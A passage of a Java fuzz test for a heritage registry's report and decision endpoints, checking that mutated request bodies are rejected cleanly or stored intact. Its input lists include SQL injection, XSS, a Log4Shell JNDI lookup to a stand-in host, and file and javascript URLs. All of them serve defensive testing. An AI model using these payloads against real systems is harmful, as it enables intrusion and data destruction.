package org.heritageregistry.fuzz;

import static org.heritageregistry.support.Api.ADMIN;
import static org.heritageregistry.support.Api.CURATOR;
import static org.heritageregistry.support.Api.CURATOR2;
import static org.heritageregistry.support.Api.REVIEWER;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.Set;
import java.util.UUID;

import org.heritageregistry.support.Api;
import org.heritageregistry.support.DatabaseTest;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;

/**
 * Mutation fuzzing of the two busiest writes, POST /api/v1/reports (NewReport) and POST
 * /api/v1/reports/{id}/decisions (NewDecision). Bodies start valid and get one or more mutations:
 * a field dropped, null, of the wrong JSON type, huge, in other scripts, SQL- or HTML-looking, dates
 * out of range, EDTF junk, unknown fields, garbage in evidence, broken JSON.
 *
 * The service must never answer 5xx; every 4xx is a problem document the contract describes; a
 * rejected request changes nothing (checked against the report count, the decision count and the
 * audit trail after each batch); an accepted one reads back with its strings as sent.
 *
 * Reproduce a run with -Dfuzz.seed=N (printed at the start); -Dfuzz.requests=N changes the size.
 */
@QuarkusTest
@DatabaseTest
@org.junit.jupiter.api.Tag("fuzz")
class ReportSubmissionFuzzTest {

    private static final long SEED = Long.getLong("fuzz.seed", System.currentTimeMillis());
    private static final int REQUESTS = Integer.getInteger("fuzz.requests", 600);
    private static final int BATCH = 100;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String DECISIONS_PATH = "decisions";

    private static final String[] CONDITIONS = { "INTACT", "SLIGHTLY_DAMAGED", "MODERATELY_DAMAGED", "SEVERELY_DAMAGED", "DESTROYED", "UNKNOWN" };
    private static final String[] EXTENTS = { "NONE", "1-10%", "11-30%", "31-60%", "61-90%", "91-100%", "UNKNOWN" };
    private static final String[] CAUSES = { "EXPLOSIVES", "HEAVY_WEAPONRY", "LIGHT_WEAPONRY", "BULLDOZING", "LOOTING", "VANDALISM", "MILITARY_USE",
            "MISUSE", "FIRE", "NATURAL", "RESTORATION", "RECONSTRUCTION", "UNKNOWN" };
    private static final String[] CERTAINTIES = { "NEGLIGIBLE", "LOW", "MEDIUM", "HIGH", "DEFINITE" };
    private static final String[] EVIDENCE_KINDS = { "ARTICLE", "OFFICIAL_STATEMENT", "PHOTO", "VIDEO", "SATELLITE_IMAGE", "ON_SITE_INSPECTION" };
    private static final String[] STATUSES = { "UNVERIFIED", "CORROBORATED", "VERIFIED", "DISPUTED", "REJECTED" };

    private static final String[] VALID_EDTF = { "2015-08-23", "2015-08", "2015", "2015-08~", "2015-08-30~", "2015~", "2015-07-23/2015-08-23",
            "../2015-09-02", "2015-08-23/..", "2015-08/2015-09", "2016-03-27", "2013-01-01/2016-12-31", "1980-05-01" };

    /** Dates that are junk, out of range, in the future, or nearly right. */
    private static final String[] BAD_EDTF = { "", " ", "2015-02-30", "2015-13-01", "2015-00-10", "0000-01-01", "-0001-01-01", "9999-12-31", "99999-01-01",
            "999999999-12-31", "1000000000-01-01", "-999999999-01-01", "2015-08-23/2015-08-01", "../..", "..", "/", "2015-08-23/", "/2015-08-23",
            "2015-08~~", "2015-08?", "2015-08%", "2015-XX", "2015-21", "Y170000002", "2015-08-23T10:00:00Z", "2015/08/23", "23 August 2015",
            " 2015-08-23", "2015-08-23 ", "2015-08-23\n", "+2015-08-23", "2015-8-3", "2015-08-23/2015-08-24/2015-08-25", "٢٠١٥-٠٨-٢٣", "१९९५-०८-२३",
            "２０１５-０８-２３", "2999-01-01", "2100-01", "3000~", "2015-08-23\u0000", "2015-08-32", "2015-02-29", "2016-02-29~", "{2015,2016}",
            "[2015-08-23..2015-08-24]", "2015-08-23/2015-08-23", "1900-01-01/..", "../1900", "2015-08-23~/2015-09~", "0001-01-01", "-2015",
            "2015-08-23' OR '1'='1", "<b>2015</b>", "2015-08".repeat(20) };

    private static final String[] BAD_LOCAL_DATES = { "2015-02-30", "+999999999-12-31", "-999999999-01-01", "2999-01-01", "0000-01-01", "2015-08-31T00:00",
            "", "2015-8-31", "31/08/2015", "2015-08", "١٩٩٩-٠١-٠١", "2015-08-31Z", "+10000-01-01", "-0001-12-31" };

    /** Text that must be stored and returned as data. */
    private static final String[] TEXTS = { "much damage", "دمر تنظيم الدولة الإسلامية معبد بل في تدمر", "\u200Fمعبد بل\u200E (Temple of Bel)",
            "\u202Egnp.exe\u202C", "🏛️💥 the temple 👨‍👩‍👧 🇸🇾", "Robert'); DROP TABLE damage_report;--", "' OR '1'='1' --", "1; DELETE FROM decision WHERE 1=1",
            "<script>alert('x')</script>", "<img src=x onerror=alert(1)>", "\"quoted\" and \\backslashed\\", "${jndi:ldap://evil.example/a}", "#{7*7} {{7*7}}",
            "%s%s%n%x", "line one\nline two\r\nline three\ttabbed", "NUL\u0000inside", "\u0007bell\u001b[31mred", "e\u0301 cafe\u0301 Å Å", "  padded  ",
            "ܬܕܡܘܪ (Syriac)", "Тадмор", "パルミラ", "\uFEFFbom first", "\u2028line sep\u2029para sep", "a\u200Bzero\u200Dwidth", "x".repeat(500),
            "ة".repeat(250), "💥".repeat(200), "null", "undefined", "true", "0", "[]", "{}", "-- comment", "/* c */", "\\u0000 literally" };

    private final Random random = new Random(SEED);

    private final List<String> failures = new ArrayList<>();
    private int sent;
    private int accepted;
    private int rejected;
    private final Map<Integer, Integer> byStatus = new java.util.TreeMap<>();
    private int normalizedDescriptions;

    // fixtures
    private final List<String> monuments = new ArrayList<>();
    private String source;
    private String otherSource;
    private String target;
    private String corroborating;
    private int acceptedOnTarget;

    // what the current batch did
    private final Set<String> acceptedReportIds = new LinkedHashSet<>();
    private final Set<String> acceptedDecisionIds = new LinkedHashSet<>();
    private final Set<String> acceptedDecisionKeys = new LinkedHashSet<>(); // report id + "/" + decision id
    private final List<String> rejectedInBatch = new ArrayList<>();

    @Test
    void mutatedReportsAndDecisionsNeverBreakTheRegistry() throws Exception {
        System.out.println("ReportSubmissionFuzzTest: seed " + SEED + " (rerun with -Dfuzz.seed=" + SEED + "), " + REQUESTS + " requests");
        long start = System.nanoTime();
        for (int i = 0; i < 6; i++) {
            monuments.add(Api.newMonument());
        }
        long t0 = System.nanoTime();
        for (int i = 0; i < 20; i++) {
            plain(null).get("/api/v1/sites/palmyra").then().statusCode(200);
        }
        long t1 = System.nanoTime();
        for (int i = 0; i < 20; i++) {
            plain(CURATOR).get("/api/v1/sites/palmyra").then().statusCode(200);
        }
        long t2 = System.nanoTime();
        System.out.println("ReportSubmissionFuzzTest: a GET takes " + (t1 - t0) / 20_000_000 + " ms anonymous, " + (t2 - t1) / 20_000_000
                + " ms signed in (HTTP Basic checks the bcrypt hash on every request)");
        source = Api.newSource(false);
        otherSource = Api.newSource(false);
        newTarget();

        int reportsBefore = reportCount();
        int submittedReports = 0;
        long auditMark = newestAuditId();
        int decisionsBefore = decisionCount(target);
        String batchTarget = target;

        for (int i = 1; i <= REQUESTS; i++) {
            boolean decision = i % 3 == 0;
            if (decision) {
                sendDecision();
            } else if (sendReport()) {
                submittedReports++;
            }
            if (i % BATCH == 0 || i == REQUESTS) {
                // nothing but the accepted requests changed anything
                int reportsNow = reportCount();
                int expectedReports = reportsBefore + submittedReports;
                List<Map<String, Object>> events = auditSince(auditMark);
                List<String> unexpected = new ArrayList<>();
                for (Map<String, Object> event : events) {
                    String action = String.valueOf(event.get("action"));
                    String entity = String.valueOf(event.get("entityId"));
                    Object changes = event.get("changes");
                    boolean ours = ("REPORT_SUBMITTED".equals(action) && acceptedReportIds.contains(entity))
                            || ("DECISION_RECORDED".equals(action) && changes instanceof Map<?, ?> c && acceptedDecisionIds.contains(String.valueOf(c.get("decision"))))
                            || isFixtureEvent(action);
                    if (!ours) {
                        unexpected.add(action + " " + entity + " " + changes);
                    }
                }
                long ourEvents = events.stream().filter(e -> !isFixtureEvent(String.valueOf(e.get("action")))).count();
                if (uncertainBatch) {
                    uncertainBatches++;
                } else if (reportsNow != expectedReports || !unexpected.isEmpty() || ourEvents != acceptedReportIds.size() + acceptedDecisionIds.size()) {
                    failures.add("batch ending at request " + i + ": reports " + reportsNow + " (expected " + expectedReports + "), audit events "
                            + ourEvents + " (expected " + (acceptedReportIds.size() + acceptedDecisionIds.size()) + "), unexpected audit events "
                            + unexpected + "; rejected requests in the batch:\n  " + String.join("\n  ", rejectedInBatch));
                }
                int decisionsNow = decisionCount(batchTarget);
                String prefix = batchTarget + "/";
                long acceptedOnBatchTarget = acceptedDecisionKeys.stream().filter(d -> d.startsWith(prefix)).count();
                if (!uncertainBatch && decisionsNow != decisionsBefore + acceptedOnBatchTarget) {
                    failures.add("batch ending at request " + i + ": " + decisionsNow + " decisions on " + batchTarget + ", expected "
                            + (decisionsBefore + acceptedOnBatchTarget));
                }
                reportsBefore = reportsNow;
                submittedReports = 0;
                auditMark = events.isEmpty() ? auditMark : ((Number) events.get(0).get("id")).longValue();
                acceptedReportIds.clear();
                acceptedDecisionIds.clear();
                acceptedDecisionKeys.clear();
                rejectedInBatch.clear();
                uncertainBatch = false;
                if (acceptedOnTarget >= 60) {
                    newTarget(); // DecisionList has maxItems 100: keep each report's decisions under it
                    reportsBefore = reportCount();
                    auditMark = newestAuditId();
                }
                batchTarget = target;
                decisionsBefore = decisionCount(target);
            }
        }
        long seconds = (System.nanoTime() - start) / 1_000_000_000L;
        System.out.println("ReportSubmissionFuzzTest: seed " + SEED + ": " + sent + " requests sent in " + seconds + " s, " + accepted + " accepted (201), "
                + rejected + " rejected (" + postNanos / 1_000_000_000L + " s in the fuzzed POSTs); by status " + byStatus + "; evidence descriptions returned stripped: " + normalizedDescriptions + "; batches not count-checked (an answer broke the contract): " + uncertainBatches + "; failures: "
                + failures.size());
        assertTrue(failures.isEmpty(), "seed " + SEED + ": " + failures.size() + " failures:\n" + String.join("\n", failures.subList(0, Math.min(150, failures.size()))));
        assertTrue(sent >= REQUESTS, "only " + sent + " of " + REQUESTS + " requests");
    }

    private static boolean isFixtureEvent(String action) {
        return "MONUMENT_CREATED".equals(action) || "SOURCE_REGISTERED".equals(action);
    }

    private void newTarget() {
        String monument = monuments.get(0);
        target = Api.submit(CURATOR2, Api.report(monument, source, "DESTROYED", "2015-08-30"));
        corroborating = Api.submit(CURATOR2, Api.report(monument, otherSource, "DESTROYED", "2015-08-29"));
        acceptedOnTarget = 0;
    }

    // ---------------------------------------------------------------- reports

    private Map<String, Object> validReport() {
        Map<String, Object> body = new LinkedHashMap<>();
        body.put("monumentId", pick(monuments.toArray(new String[0])));
        body.put("condition", pick(CONDITIONS));
        if (random.nextBoolean()) {
            body.put("conditionWording", text(500));
        }
        if (random.nextBoolean()) {
            body.put("extent", pick(EXTENTS));
        }
        List<Object> causes = new ArrayList<>();
        int n = 1 + random.nextInt(3);
        for (int i = 0; i < n; i++) {
            String c = pick(CAUSES);
            if (!causes.contains(c)) {
                causes.add(c);
            }
        }
        body.put("causes", causes);
        body.put("eventDate", pick(VALID_EDTF));
        if (random.nextBoolean()) {
            body.put("publishedOn", pick(VALID_EDTF));
        }
        body.put("certainty", pick(CERTAINTIES));
        if (random.nextBoolean()) {
            body.put("certaintyWording", text(500));
        }
        body.put("sourceId", source);
        if (random.nextInt(4) == 0) {
            body.put("relayedById", otherSource);
        }
        if (random.nextBoolean()) {
            body.put("summary", text(2000));
        }
        if (random.nextBoolean()) {
            List<Object> evidence = new ArrayList<>();
            int k = 1 + random.nextInt(3);
            for (int i = 0; i < k; i++) {
                evidence.add(validEvidence());
            }
            body.put("evidence", evidence);
        }
        return body;
    }

    private Map<String, Object> validEvidence() {
        Map<String, Object> e = new LinkedHashMap<>();
        e.put("kind", pick(EVIDENCE_KINDS));
        String description = text(2000);
        e.put("description", description.isBlank() ? "a photo" : description);
        if (random.nextInt(3) == 0) {
            e.put("url", pick(new String[] { "https://example.org/a", "https://example.org/%D8%AA%D8%AF%D9%85%D8%B1?q=1&x=%27", "http://unosat.org/p.pdf" }));
        }
        if (random.nextInt(3) == 0) {
            e.put("credit", text(200));
        }
        if (random.nextInt(3) == 0) {
            e.put("acquiredOn", "2015-08-31");
        }
        if (random.nextInt(3) == 0) {
            e.put("locator", text(500));
        }
        return e;
    }

    private static final String[] REPORT_FIELDS = { "monumentId", "condition", "conditionWording", "extent", "causes", "eventDate", "publishedOn", "certainty",
            "certaintyWording", "sourceId", "relayedById", "summary", "evidence" };

    /** Sends one (possibly) mutated report; true when it was accepted. */
    private boolean sendReport() throws Exception {
        Map<String, Object> body = validReport();
        List<String> applied = new ArrayList<>();
        byte[] raw = null;
        int mutations = random.nextInt(10) == 0 ? 0 : 1 + (random.nextInt(4) == 0 ? random.nextInt(3) : 0);
        for (int m = 0; m < mutations; m++) {
            int kind = random.nextInt(14);
            String field = pick(REPORT_FIELDS);
            switch (kind) {
                case 0 -> {
                    body.remove(field);
                    applied.add("drop " + field);
                }
                case 1 -> {
                    body.put(field, null);
                    applied.add(field + "=null");
                }
                case 2 -> {
                    Object wrong = wrongType(field);
                    body.put(field, wrong);
                    applied.add(field + "=" + describe(wrong));
                }
                case 3 -> {
                    String f = pick(new String[] { "conditionWording", "certaintyWording", "summary", "monumentId", "eventDate", "publishedOn", "sourceId" });
                    String huge = huge();
                    body.put(f, huge);
                    applied.add(f + "=huge(" + huge.length() + ")");
                }
                case 4 -> {
                    String f = pick(new String[] { "conditionWording", "certaintyWording", "summary", "monumentId", "condition", "extent", "certainty" });
                    String t = pick(TEXTS);
                    body.put(f, t);
                    applied.add(f + "=" + describe(t));
                }
                case 5 -> {
                    String f = random.nextBoolean() ? "eventDate" : "publishedOn";
                    String d = pick(BAD_EDTF);
                    body.put(f, d);
                    applied.add(f + "=" + describe(d));
                }
                case 6 -> {
                    String f = pick(new String[] { "foo", "status", "id", "submittedBy", "version", "lineageId", "supersedes", "__proto__", "Condition",
                            "monumentid", "" });
                    Object v = f.equals("status") ? "VERIFIED" : f.equals("submittedBy") ? ADMIN : f.equals("id") ? UUID.randomUUID().toString() : pick(TEXTS);
                    body.put(f, v);
                    applied.add("unknown " + f + "=" + describe(v));
                }
                case 7 -> {
                    Object garbage = evidenceGarbage();
                    body.put("evidence", garbage);
                    applied.add("evidence=" + describe(garbage));
                }
                case 8 -> {
                    Object causes = pick(new Object[] { List.of(), List.of("EXPLOSIVES", "EXPLOSIVES"), listOfNull(), List.of(CAUSES).subList(0, 13),
                            concat(List.of(CAUSES), "FIRE"), List.of("explosives"), "EXPLOSIVES", List.of(""), List.of(0), List.of(List.of("FIRE")),
                            List.of("FIRE", "UNKNOWN", "NATURAL") });
                    body.put("causes", causes);
                    applied.add("causes=" + describe(causes));
                }
                case 9 -> {
                    String f = random.nextBoolean() ? "sourceId" : "relayedById";
                    Object v = pick(new Object[] { UUID.randomUUID().toString(), "not-a-uuid", "00000000-0000-0000-0000-000000000000", source.toUpperCase(),
                            "{" + source + "}", source + " ", " " + source, source.replace("-", ""), "a2c6a1e9-cfef-4485-97d2-957ccf9d561f", otherSource,
                            source.substring(0, 35), source + "0", "ffffffff-ffff-ffff-ffff-ffffffffffff" });
                    body.put(f, v);
                    applied.add(f + "=" + describe(v));
                }
                case 10 -> {
                    // the test's own monument, not a seeded one: a valid report here must not join the seed's conflicts
                    String own = monuments.get(0);
                    Object v = pick(new Object[] { own, "no-such-monument", own.toUpperCase(java.util.Locale.ROOT), " " + own, own + " ", "../sites/palmyra",
                            own + "' OR '1'='1", "%", "_", "x".repeat(80), "x".repeat(81), "", "   ", "\u0000", "palmyra" });
                    body.put("monumentId", v);
                    applied.add("monumentId=" + describe(v));
                }
                case 11 -> {
                    // evidence item with one bad field
                    Map<String, Object> e = validEvidence();
                    String f = pick(new String[] { "kind", "description", "url", "credit", "acquiredOn", "locator", "extra" });
                    Object v = switch (f) {
                        case "kind" -> pick(new Object[] { "photo", "SELFIE", "", null, 3, List.of("PHOTO") });
                        case "description" -> pick(new Object[] { "", "   ", "\t\n", null, huge(), 42, Map.of("x", 1), pick(TEXTS) });
                        case "url" -> pick(new Object[] { "javascript:alert(1)", "not a url", "http://", "http://[::1", "file:///etc/passwd", "//example.org",
                                "https://example.org/" + "a".repeat(2000), "https://exa mple.org", "https://пример.рф/путь", "mailto:a@b.c", "" });
                        case "acquiredOn" -> random.nextInt(4) == 0 ? random.nextInt() : pick(BAD_LOCAL_DATES);
                        case "extra" -> "unknown field";
                        default -> pick(new Object[] { huge(), pick(TEXTS), 7, true, List.of() });
                    };
                    e.put(f, v);
                    body.put("evidence", new ArrayList<>(List.of(validEvidence(), e)));
                    applied.add("evidence[1]." + f + "=" + describe(v));
                }
                case 12 -> {
                    String f = pick(new String[] { "condition", "certainty", "extent" });
                    Object v = pick(new Object[] { "destroyed", "DESTROYED ", " DESTROYED", "", "0", 0, 4, "Destroyed", "DESTROYED\u0000", "91-100", "100%",
                            "ＤＥＳＴＲＯＹＥＤ" });
                    body.put(f, v);
                    applied.add(f + "=" + describe(v));
                }
                default -> {
                    raw = rawGarbage(body);
                    applied.add("raw " + describe(new String(raw, StandardCharsets.UTF_8)));
                }
            }
        }
        if (applied.isEmpty()) {
            applied.add("valid");
        }
        byte[] payload = raw != null ? raw : JSON.writeValueAsBytes(body);
        Response response = post(CURATOR, "/api/v1/reports", payload, applied);
        if (response == null) {
            return false;
        }
        if (response.statusCode() == 201) {
            String id = response.jsonPath().getString("id");
            acceptedReportIds.add(id);
            if (raw == null) {
                Response back = plain(null).get("/api/v1/reports/" + id); // our sources are public: the anonymous view is the whole report
                compareReport(body, JSON.readValue(back.asByteArray(), Map.class), applied);
            }
            return true;
        }
        return false;
    }

    private void compareReport(Map<String, Object> sent, Map<?, ?> got, List<String> applied) {
        for (String f : List.of("monumentId", "condition", "conditionWording", "extent", "certainty", "certaintyWording", "summary")) {
            same(f, sent.get(f), got.get(f), applied);
        }
        same("eventDate", sent.get("eventDate"), ((Map<?, ?>) got.get("eventDate")).get("edtf"), applied);
        if (sent.get("publishedOn") != null) {
            same("publishedOn", sent.get("publishedOn"), got.get("publishedOn") instanceof Map<?, ?> p ? p.get("edtf") : null, applied);
        }
        same("source.id", sent.get("sourceId"), ((Map<?, ?>) got.get("source")).get("id"), applied);
        if (sent.get("evidence") instanceof List<?> evidence) {
            List<?> back = (List<?>) got.get("evidence");
            if (back == null || back.size() != evidence.size()) {
                failures.add("accepted report " + applied + " came back with evidence " + back + " instead of " + evidence);
                return;
            }
            compareEvidence(evidence, back, applied);
        }
    }

    private void compareEvidence(List<?> sent, List<?> back, List<String> applied) {
        for (int i = 0; i < sent.size(); i++) {
            Map<?, ?> s = (Map<?, ?>) sent.get(i);
            Map<?, ?> g = (Map<?, ?>) back.get(i);
            for (String f : List.of("kind", "url", "credit", "acquiredOn", "locator")) {
                same("evidence[" + i + "]." + f, s.get(f), g.get(f), applied);
            }
            Object description = s.get("description");
            if (description instanceof String d && !d.equals(g.get("description")) && d.strip().equals(g.get("description"))) {
                normalizedDescriptions++; // EvidenceView.toItem strips the description on purpose
            } else {
                same("evidence[" + i + "].description", description, g.get("description"), applied);
            }
        }
    }

    private void same(String field, Object sent, Object got, List<String> applied) {
        if (sent == null) {
            return;
        }
        boolean uuid = field.endsWith("Id") || field.endsWith(".id");
        if (uuid ? !String.valueOf(sent).equalsIgnoreCase(String.valueOf(got)) : !Objects.equals(String.valueOf(sent), String.valueOf(got))) {
            failures.add("accepted body " + applied + ": " + field + " sent " + describe(sent) + " but read back " + describe(got));
        }
    }

    // -------------------------------------------------------------- decisions

    private Map<String, Object> validDecision() {
        Map<String, Object> body = new LinkedHashMap<>();
        String status = pick(STATUSES);
        body.put("status", status);
        if (!status.equals("VERIFIED") && !status.equals("CORROBORATED") || random.nextBoolean()) {
            String r = text(2000);
            body.put("rationale", r.isBlank() ? "because" : r);
        }
        if (status.equals("CORROBORATED")) {
            body.put("corroboratingReportId", corroborating);
        }
        if (status.equals("VERIFIED") || random.nextInt(3) == 0) {
            List<Object> evidence = new ArrayList<>();
            Map<String, Object> strong = validEvidence();
            strong.put("kind", pick(new String[] { "SATELLITE_IMAGE", "ON_SITE_INSPECTION", "OFFICIAL_STATEMENT" }));
            evidence.add(strong);
            if (random.nextBoolean()) {
                evidence.add(validEvidence());
            }
            body.put("evidence", evidence);
        }
        return body;
    }

    private void sendDecision() throws Exception {
        Map<String, Object> body = validDecision();
        List<String> applied = new ArrayList<>();
        byte[] raw = null;
        int mutations = random.nextInt(6) == 0 ? 0 : 1;
        for (int m = 0; m < mutations; m++) {
            String field = pick(new String[] { "status", "rationale", "corroboratingReportId", "evidence" });
            switch (random.nextInt(10)) {
                case 0 -> {
                    body.remove(field);
                    applied.add("drop " + field);
                }
                case 1 -> {
                    body.put(field, null);
                    applied.add(field + "=null");
                }
                case 2 -> {
                    Object wrong = wrongType(field);
                    body.put(field, wrong);
                    applied.add(field + "=" + describe(wrong));
                }
                case 3 -> {
                    String huge = huge();
                    body.put("rationale", huge);
                    applied.add("rationale=huge(" + huge.length() + ")");
                }
                case 4 -> {
                    String t = pick(TEXTS);
                    body.put(random.nextBoolean() ? "rationale" : "status", t);
                    applied.add("text " + describe(t));
                }
                case 5 -> {
                    Object v = pick(new Object[] { target, corroborating, UUID.randomUUID().toString(), "not-a-uuid", "030d7e6a-647d-45e3-8d12-0cb1640b10da",
                            corroborating.toUpperCase(), "", 12 });
                    body.put("status", "CORROBORATED");
                    body.put("corroboratingReportId", v);
                    applied.add("CORROBORATED by " + describe(v));
                }
                case 6 -> {
                    String f = pick(new String[] { "decidedBy", "reportId", "id", "decidedAt", "foo", "status " });
                    body.put(f, f.equals("decidedBy") ? ADMIN : pick(TEXTS));
                    applied.add("unknown " + f);
                }
                case 7 -> {
                    Object garbage = evidenceGarbage();
                    body.put("evidence", garbage);
                    applied.add("evidence=" + describe(garbage));
                }
                case 8 -> {
                    Object v = pick(new Object[] { "verified", "VERIFIED ", "", "APPROVED", 2, "UNVERIFIED", "REJECTED", "DISPUTED" });
                    body.put("status", v);
                    if (random.nextBoolean()) {
                        body.remove("rationale");
                    } else {
                        body.put("rationale", pick(new String[] { "", "   ", "\n\t", "\u00A0", "\u2003", "\u200B", "ok" }));
                    }
                    applied.add("status=" + describe(v) + " rationale=" + describe(body.get("rationale")));
                }
                default -> {
                    raw = rawGarbage(body);
                    applied.add("raw " + describe(new String(raw, StandardCharsets.UTF_8)));
                }
            }
        }
        if (applied.isEmpty()) {
            applied.add("valid");
        }
        byte[] payload = raw != null ? raw : JSON.writeValueAsBytes(body);
        String reportId = target;
        Response response = post(REVIEWER, "/api/v1/reports/" + reportId + "/" + DECISIONS_PATH, payload, applied);
        if (response != null && response.statusCode() == 201) {
            String id = response.jsonPath().getString("id");
            acceptedDecisionIds.add(id);
            acceptedDecisionKeys.add(reportId + "/" + id);
            acceptedOnTarget++;
            if (raw == null) {
                List<?> items = (List<?>) JSON.readValue(plain(null).get("/api/v1/reports/" + reportId + "/decisions").asByteArray(), Map.class).get("items");
                Map<?, ?> got = items.stream().map(o -> (Map<?, ?>) o).filter(d -> id.equals(d.get("id"))).findFirst().orElse(null);
                if (got == null) {
                    failures.add("accepted decision " + id + " " + applied + " is not listed on its report");
                    return;
                }
                same("status", body.get("status"), got.get("status"), applied);
                same("rationale", body.get("rationale"), got.get("rationale"), applied);
                if ("CORROBORATED".equals(body.get("status"))) {
                    same("corroboratingReportId", body.get("corroboratingReportId"), got.get("corroboratingReportId"), applied);
                }
                if (body.get("evidence") instanceof List<?> evidence) {
                    List<?> back = (List<?>) got.get("evidence");
                    if (back == null || back.size() != evidence.size()) {
                        failures.add("accepted decision " + applied + " came back with evidence " + back);
                    } else {
                        compareEvidence(evidence, back, applied);
                    }
                }
            }
        }
    }

    // ---------------------------------------------------------------- helpers

    private long postNanos;
    private boolean uncertainBatch;
    private int uncertainBatches;

    private Response post(String user, String path, byte[] payload, List<String> applied) {
        sent++;
        Response response;
        long t0 = System.nanoTime();
        try {
            response = Api.asBreakingContract(user).contentType("application/json").body(payload).post(path);
            postNanos += System.nanoTime() - t0;
        } catch (AssertionError | RuntimeException e) {
            // the response-only contract filter refused the answer
            failures.add("POST " + path + " " + applied + ": response breaks the contract: " + contractErrors(String.valueOf(e.getMessage())));
            int status = answeredStatus(String.valueOf(e.getMessage()));
            if (status == 201 || status < 0) {
                uncertainBatch = true; // accepted, but its id is unknown: this batch's counts cannot be checked
                accepted += status == 201 ? 1 : 0;
            } else {
                rejected++;
                rejectedInBatch.add(status + " (answer broke the contract) " + abbreviate(applied.toString(), 200));
            }
            if (status > 0) {
                byStatus.merge(status, 1, Integer::sum);
            }
            if (status >= 500) {
                failures.add("POST " + path + " " + applied + " answered " + status);
            }
            return null;
        }
        int status = response.statusCode();
        byStatus.merge(status, 1, Integer::sum);
        if (status == 201) {
            accepted++;
        } else {
            rejected++;
            rejectedInBatch.add(status + " " + abbreviate(applied.toString(), 200));
        }
        if (status >= 500) {
            failures.add("POST " + path + " " + applied + " answered " + status + ": " + abbreviate(response.asString(), 600));
        } else if (status >= 400 && !String.valueOf(response.contentType()).startsWith("application/problem+json")) {
            failures.add("POST " + path + " " + applied + " answered " + status + " as " + response.contentType());
        } else if (status != 201 && status < 400) {
            failures.add("POST " + path + " " + applied + " answered " + status);
        }
        return response;
    }

    private static int answeredStatus(String report) {
        try {
            for (var m : JSON.readTree(report.substring(report.indexOf('{'))).path("messages")) {
                if (m.path("context").has("responseStatus")) {
                    return m.path("context").path("responseStatus").asInt();
                }
            }
        } catch (Exception e) {
            // not a validator report
        }
        return -1;
    }

    /** The ERROR-level messages of the validator's report (the ignored request-side ones are left out). */
    private static String contractErrors(String report) {
        try {
            StringBuilder b = new StringBuilder();
            for (var m : JSON.readTree(report.substring(report.indexOf('{'))).path("messages")) {
                if ("ERROR".equals(m.path("level").asText())) {
                    b.append(abbreviate(m.path("message").asText(), 300)).append(" [").append(m.path("context").path("responseStatus").asText()).append("] ");
                    for (var info : m.path("additionalInfo")) {
                        b.append(abbreviate(info.asText(), 200)).append("; ");
                    }
                }
            }
            return b.toString();
        } catch (Exception e) {
            return abbreviate(report, 600);
        }
    }

    private Object wrongType(String field) {
        return pick(new Object[] { 42, -1, 1.5e308, true, false, List.of(), List.of("x"), Map.of(), Map.of("a", List.of(1)), "string",
                new java.math.BigInteger("123456789012345678901234567890"), 0 });
    }

    private String huge() {
        int size = pick(new Integer[] { 2001, 10_000, 65_536, 100_000, 300_000 });
        String unit = pick(new String[] { "a", "ت", "💥", "<>", "'" });
        StringBuilder b = new StringBuilder(size);
        while (b.length() < size) {
            b.append(unit);
        }
        return b.toString();
    }

    private Object evidenceGarbage() {
        return pick(new Object[] { Map.of(), "evidence", 7, listOfNull(), List.of(List.of()), List.of(1, 2), List.of(Map.of()), List.of(Map.of("kind", "PHOTO")),
                List.of(Map.of("description", "no kind")), nCopies(21), nCopies(20), List.of(Map.of("kind", "PHOTO", "description", Map.of("nested", List.of(1, 2, Map.of("a", "b"))))),
                List.of(Map.of("kind", "PHOTO", "description", "d", "evidence", List.of(Map.of("kind", "PHOTO")))), deep(200),
                List.of(Map.of("kind", "SATELLITE_IMAGE", "description", "d", "acquiredOn", "2999-01-01")) });
    }

    private static List<Object> listOfNull() {
        List<Object> l = new ArrayList<>();
        l.add(null);
        return l;
    }

    private static List<Object> concat(List<String> list, String more) {
        List<Object> l = new ArrayList<>(list);
        l.add(more);
        return l;
    }

    private List<Object> nCopies(int n) {
        List<Object> l = new ArrayList<>();
        for (int i = 0; i < n; i++) {
            l.add(Map.of("kind", "ARTICLE", "description", "item " + i));
        }
        return l;
    }

    private static Object deep(int depth) {
        Object o = List.of();
        for (int i = 0; i < depth; i++) {
            o = List.of(o);
        }
        return o;
    }

    /** Bodies that are not the JSON of an object. */
    private byte[] rawGarbage(Map<String, Object> body) throws Exception {
        String json = JSON.writeValueAsString(body);
        String s = switch (random.nextInt(16)) {
            case 0 -> json.substring(0, random.nextInt(Math.max(1, json.length())));
            case 1 -> "";
            case 2 -> "null";
            case 3 -> "[" + json + "]";
            case 4 -> "42";
            case 5 -> "\"" + json.replace("\"", "'") + "\"";
            case 6 -> json.replaceFirst("\\{", "{\"condition\":\"INTACT\",\"condition\":\"DESTROYED\",");
            case 7 -> json.replaceFirst("}$", ",}");
            case 8 -> "/* c */" + json;
            case 9 -> "\uFEFF" + json;
            case 10 -> json.replaceFirst("\\{", "{\"certainty\":NaN,");
            case 11 -> "{\"evidence\":" + "[".repeat(5000) + "]".repeat(5000) + "}";
            case 12 -> json + json;
            case 13 -> "{" + "\"a\":{".repeat(3000) + "}".repeat(3001);
            case 14 -> json.replace(":", ": 0x1F,").substring(0, Math.min(50, json.length()));
            default -> null;
        };
        if (s == null) {
            // invalid UTF-8 inside a string value
            byte[] prefix = "{\"monumentId\":\"".getBytes(StandardCharsets.UTF_8);
            byte[] bad = { (byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE, (byte) 0xED, (byte) 0xA0, (byte) 0x80 };
            byte[] suffix = "\"}".getBytes(StandardCharsets.UTF_8);
            byte[] out = new byte[prefix.length + bad.length + suffix.length];
            System.arraycopy(prefix, 0, out, 0, prefix.length);
            System.arraycopy(bad, 0, out, prefix.length, bad.length);
            System.arraycopy(suffix, 0, out, prefix.length + bad.length, suffix.length);
            return out;
        }
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private String text(int max) {
        String t = random.nextInt(3) == 0 ? "plain " + random.nextInt(100_000) : pick(TEXTS);
        return t.length() > max ? t.substring(0, max) : t;
    }

    @SafeVarargs
    private <T> T pick(T... options) {
